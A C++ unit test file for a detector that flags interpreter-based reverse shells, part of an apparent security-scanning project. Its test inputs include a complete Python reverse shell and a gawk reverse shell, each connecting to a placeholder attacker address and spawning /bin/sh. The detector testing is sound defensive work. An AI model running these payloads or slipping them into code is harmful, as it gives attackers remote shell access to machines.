#include "detect/backdoors/interpreter_shell.hpp"

#include <gtest/gtest.h>

namespace hullcheck::detect {
namespace {

TEST(InterpreterShell, FindsCodeInsideCommands) {
  const auto found = find_interpreter_shell(
      "import "
      "socket,os\ns=socket.socket()\ns.connect(('192.0.2.1',1))\nos.dup2(s.fileno(),0)\nos.system('/bin/sh')\n");
  ASSERT_TRUE(found.has_value());
  EXPECT_EQ(found->language, "Python");
  EXPECT_TRUE(found->certain);
}

TEST(InterpreterShell, Gawk) {
  const auto found = find_interpreter_shell(
      "BEGIN { s = \"/inet/tcp/0/192.0.2.1/4444\"; while (1) { s |& getline c; while ((c | getline) > 0) print $0 |& "
      "s;"
      " close(c) } }");
  EXPECT_FALSE(
      find_interpreter_shell("BEGIN { s = \"/inet/tcp/0/localhost/80\"; print \"GET /\" |& s }").has_value());
  ASSERT_TRUE(found.has_value());
  EXPECT_FALSE(found->certain);
}

TEST(InterpreterShell, PartsFarApartAreNotOne) {
  const std::string apart =
      "s=socket.socket()\ns.connect(x)\n" + std::string(5000, '\n') + "os.dup2(f.fileno(),0) # \n\"/bin/sh\"\n";
  EXPECT_FALSE(find_interpreter_shell(apart).has_value());
}

TEST(InterpreterShell, RepeatedWordsCostLittle) {
  std::string text;
  for (int i = 0; i < 100000; ++i) text += "dup2 subprocess ";
  EXPECT_FALSE(find_interpreter_shell(text).has_value());
}

}  // namespace
}  // namespace hullcheck::detect
